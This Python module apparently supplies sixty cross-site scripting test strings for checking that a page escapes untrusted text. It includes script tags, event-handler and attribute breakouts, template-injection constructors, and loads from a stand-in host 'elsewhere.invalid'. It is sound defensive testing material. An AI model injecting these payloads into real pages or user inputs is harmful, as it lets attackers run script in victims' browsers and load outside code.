"""Sixty texts that run code, load something, or hide what follows, if a page does not escape them.

Code that runs sets ``window.ran``; whatever is loaded has the address ``http://elsewhere.invalid``.
"""

from __future__ import annotations

RUN, ADDRESS = "window.ran=1", "http://elsewhere.invalid/x"

# Ends of what a text can be inside of: an element, an attribute, a comment, a string, a script.
_ENDS = ("", '">', "'>", "-->", "</title>", "</script>", "</style>", "]]>", "*/", "\\u003c/script>")

_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
)

_ALONE = (
    f"<script src={ADDRESS}></script>",
    f"<img src={ADDRESS}>",
    f'<link rel=stylesheet href="{ADDRESS}">',
    f'<meta http-equiv=refresh content="0;url={ADDRESS}">',
    f"<style>@import '{ADDRESS}';</style>",
    f"<object data={ADDRESS}></object>",
    f'<base href="{ADDRESS}">',
    f"<form action={ADDRESS}><button autofocus onfocus={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}",
    f"javascript:{RUN}",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"\u2028{RUN}\u2029",
    f"\\\u0022;{RUN}//",
    "<!--<script>",
    "<plaintext>",
    "&lt;script&gt;",
    "\u202egnp.exe",
    "\ud800 \ud83d",
)

HOSTILE = (*(end + element for end in _ENDS for element in _ELEMENTS), *_ALONE)
